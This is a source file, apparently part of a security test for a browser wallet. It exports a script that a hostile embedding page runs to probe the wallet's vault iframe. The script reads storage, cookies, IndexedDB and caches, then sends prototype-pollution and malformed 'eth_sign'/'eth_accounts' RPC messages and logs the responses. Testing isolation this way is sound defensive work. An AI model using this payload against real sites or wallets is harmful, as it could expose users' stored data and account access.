/** Runs in the page that embeds the vault: returns everything a hostile site can read, as one text. */
export const attack = `(async () => {
  const loot = []
  const frame = document.getElementById('vault')
  const take = async (name, work) => {
    try {
      loot.push([name, await work()])
    } catch (error) {
      loot.push([name, error.name, error.message, error.stack])
    }
  }
  addEventListener('error', (event) => loot.push(['error', event.message, event.error?.stack]))
  for (const key of ['document', 'localStorage', 'indexedDB', 'name', 'crypto', 'eval', 'Array', 'taken', 'location']) {
    await take('contentWindow.' + key, () => String(frame.contentWindow[key]))
  }
  await take('contentDocument', () => String(frame.contentDocument))
  await take('names', () => [window.name, frame.name, Object.getOwnPropertyNames(frame.contentWindow).join()])
  await take('storage', () => JSON.stringify([{ ...localStorage }, { ...sessionStorage }, document.cookie]))
  await take('databases', async () => JSON.stringify(await indexedDB.databases()))
  await take('caches', async () => JSON.stringify(await caches.keys()))
  await take('memory', () => JSON.stringify([performance.memory?.usedJSHeapSize, performance.memory?.totalJSHeapSize]))
  await take('whole memory', async () => JSON.stringify(await performance.measureUserAgentSpecificMemory()))
  await take('entries', () => JSON.stringify(performance.getEntries().map(({ name, entryType }) => [name, entryType])))
  const own = Object.create(null)
  const nasty = [
    JSON.parse('{"__proto__":{"polluted":true}}'),
    { constructor: { prototype: { polluted: true } } },
    { method: 'eth_accounts', params: [], chainId: 'eip155:1', toJSON: 1 },
    { method: '__proto__', params: [], chainId: 'eip155:1' },
    { method: 'constructor', params: { __proto__: null }, chainId: 'eip155:1' },
    Object.assign(own, { method: 'eth_sign', params: [new Error('x'), new Map([[1, own]])], chainId: 'eip155:1' }),
    { get method() { return 'eth_accounts' }, params: new Proxy([], {}), chainId: 'eip155:1' },
    new RangeError('polluted'),
    new Uint8Array(64),
  ]
  const ports = new MessageChannel()
  for (const [at, payload] of nasty.entries()) {
    await take('message ' + at, () => new Promise((resolve) => {
      const id = 'request-attack-' + at
      port.postMessage({ id, type: '@latchkey-app/RPC_REQUEST', payload })
      const wait = setInterval(() => { if (answers.has(id)) { clearInterval(wait); resolve(JSON.stringify(answers.get(id))) } }, 10)
      setTimeout(() => { clearInterval(wait); resolve('no answer') }, 1000)
    }))
  }
  for (const name of ['GET_USER', 'IS_CONNECTED']) {
    await take(name, async () => JSON.stringify(await ask(name, name === 'GET_USER' ? { chainId: 'eip155:31337' } : {})))
  }
  await take('heard', () => JSON.stringify([heard, events, [...answers.values()]]))
  return loot.map((one) => one.join(' ')).join('\\n')
})()`
